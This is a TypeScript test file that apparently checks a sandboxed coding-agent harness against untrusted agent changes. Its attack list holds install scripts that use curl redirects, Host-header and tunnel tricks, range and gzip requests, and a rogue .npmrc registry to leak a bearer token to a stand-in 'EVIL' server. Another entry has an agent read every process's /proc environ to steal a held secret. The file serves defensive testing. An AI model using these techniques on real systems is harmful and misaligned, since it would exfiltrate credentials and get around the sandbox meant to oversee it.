import type { Stage } from "../../e2e/stage.ts";
import { campaign, type TicketAttack, type World } from "../campaign.ts";
import { DEFENCES as ESCAPE } from "../escape/defences.ts";
import type { Attack, Defence } from "../suite.ts";
import { DEFENCES } from "./defences.ts";
import { isStolen, isUsed, MARKED, portsOf, startServers, TOKEN } from "./servers.ts";

interface Script {
  readonly id: string;
  readonly what: string;
  readonly defence: Defence;
  /** Commands of a shell; TARGET and EVIL are URLs that end in the ticket's id. */
  readonly lines: readonly string[];
  /** Further files of the change. */
  readonly files?: Readonly<Record<string, string>>;
  readonly told: RegExp;
  readonly harm?: TicketAttack["harm"];
}

/** True if the change's script could spell the token backwards. */
const isSpelt: NonNullable<TicketAttack["harm"]> = ({ said }) => said.includes(MARKED);

/** An agent whose change is an install script that `prepare` runs in the candidate's checkout, with the token a request away. */
function installs({ id, what, defence, lines, files = {}, told, harm = isSpelt }: Script): TicketAttack {
  const all = { ...files, "install.sh": `${lines.join("\n")}\nexit 1\n` };
  return {
    id,
    what,
    defence,
    agent: `const [target, evil] = fs.readFileSync(root + "/shared/ports", "utf8").split(" ");
      for (const [name, text] of Object.entries(${JSON.stringify(all)}))
        fs.writeFileSync(name, text.replaceAll("TARGET", "http://127.0.0.1:" + target + "/" + ticket).replaceAll("EVIL", "http://127.0.0.1:" + evil + "/" + ticket));`,
    told,
    harm,
  };
}

const CURL = "curl -s --max-time 20";

const ATTACKS: readonly TicketAttack[] = [
  installs({
    id: "X8-header",
    what: "has an echo of the host send the header back as a header",
    defence: DEFENCES.answerHeaders,
    lines: [`${CURL} -D - -o /dev/null TARGET/header | grep -i x-echo | tr -d '\\r\\n' | rev`],
    told: /\]proc terces\[/,
  }),
  installs({
    id: "X8-range",
    what: "asks an echo for its first half, then for the other",
    defence: DEFENCES.ranges,
    lines: [`printf '%s%s' "$(${CURL} -r 0-29 TARGET)" "$(${CURL} -r 30-200 TARGET)" | rev`],
    told: /\*{20}/,
  }),
  installs({
    id: "X8-gzip",
    what: "asks an echo to compress what it sends back",
    defence: DEFENCES.compression,
    lines: [`${CURL} --compressed TARGET | rev`],
    told: /\*{20}/,
  }),
  installs({
    id: "X9-method",
    what: "publishes with the token that the batch gives for reading",
    defence: DEFENCES.methods,
    lines: [`${CURL} -X POST TARGET/publish`],
    told: /POST to 127\.0\.0\.1 is not open to this step/,
    harm: isUsed("POST"),
  }),
  installs({
    id: "X10-redirect",
    what: "follows a redirect of the host to an open server of its own",
    defence: DEFENCES.exactly,
    lines: [`${CURL} -L -w '%{http_code} after %{num_redirects}' TARGET/redirect`],
    told: /404 after 1/,
    harm: isStolen,
  }),
  installs({
    id: "X10-port",
    what: "asks an open server of its own at another port of the host",
    defence: DEFENCES.exactly,
    lines: [`${CURL} EVIL`],
    told: /nothing came with it/,
    harm: isStolen,
  }),
  installs({
    id: "X10-named",
    what: "asks its own server and names the host in the header",
    defence: DEFENCES.named,
    lines: [`host=$(echo TARGET | cut -d/ -f3)`, `${CURL} -H "Host: $host" EVIL`, `${CURL} --proxytunnel -H "Host: $host" EVIL`],
    told: /nothing came with it/,
    harm: isStolen,
  }),
  installs({
    id: "X10-npmrc",
    what: "names its own server as the registry in .npmrc",
    defence: DEFENCES.exactly,
    files: { ".npmrc": "registry=EVIL/\nfetch-retries=0\n" },
    lines: ["npm view left 2>&1 | grep -v 'log of this run'"],
    told: /E404/,
    harm: isStolen,
  }),
  installs({
    id: "X11-tunnel",
    what: "asks for another host in a tunnel to the host",
    defence: DEFENCES.tunnels,
    lines: [`${CURL} --proxytunnel --noproxy '' -H "Host: other.example" TARGET`],
    told: /the Host header names another host than the connection/,
    harm: isUsed("GET"),
  }),
  {
    id: "X12-open",
    what: "asks, as an agent, the host that is open to agents without headers, and to prepare with one",
    defence: DEFENCES.ownHosts,
    agent: `const [target] = fs.readFileSync(root + "/shared/ports", "utf8").split(" ");
      say(sh("curl", "-s", "--max-time", "20", "http://127.0.0.1:" + target + "/" + ticket)); process.exit(1);`,
    told: /you sent nothing/,
    harm: isUsed("GET"),
  },
  {
    id: "X13-environ",
    what: "reads the environment of every process while a verify of another ticket has the token in a variable",
    defence: ESCAPE.agent,
    agent: `while (!fs.existsSync(root + "/shared/holding")) await wait(50);
      const read = (pid) => { try { return fs.readFileSync("/proc/" + pid + "/environ", "latin1"); } catch { return ""; } };
      const all = fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).map(read).join();
      say("looked: " + [...(/HELD=([^\\0]*)/.exec(all)?.[1] ?? "nothing")].reverse().join(""));
      fs.writeFileSync(root + "/shared/looked", ""); process.exit(1);`,
    others: [
      {
        id: "X13-holder",
        agent: 'fs.writeFileSync("x.txt", "x");',
        ticket: {
          finish: [
            { step: "merge" },
            { step: "verify", name: "holds", command: ["sh", "{batch}/holds.sh"], env: { HELD: "{secret:corp}" } },
          ],
        },
      },
    ],
    told: /looked: gnihton/,
    harm: isSpelt,
  },
];

const around = (stage: Stage): void => {
  startServers(stage);
  const shared = stage.path("shared");
  stage.write("holds.sh", `: >${shared}/holding\nwhile [ ! -e ${shared}/looked ]; do sleep 0.1; done\n`);
};

const world: World = {
  files: { "README.md": "# test\n", "install.sh": "exit 0\n" },
  around,
  env: { CORP_TOKEN: TOKEN },
  repo: { prepare: [["sh", "install.sh"]] },
  batch: (stage) => {
    const { target, evil } = portsOf(stage);
    const at = (port: number) => ({ host: "127.0.0.1", port, addresses: ["127.0.0.1"] });
    return {
      sandbox: "required",
      secrets: { corp: { env: "CORP_TOKEN" } },
      sandboxPolicy: {
        write: ["shared"],
        hosts: {
          prepare: [{ ...at(target), headers: { authorization: "Bearer {secret:corp}" } }, at(evil)],
          agent: [at(target)],
        },
      },
      finish: [{ step: "check", name: "installed", command: ["test", "-f", "install.sh"] }, { step: "merge" }],
    };
  },
};

/** Attacks by changes of agents on a token that the gateway adds in `prepare`, and on one that a verify holds. */
export const BY_CANDIDATES: readonly Attack[] = campaign(world, ATTACKS);
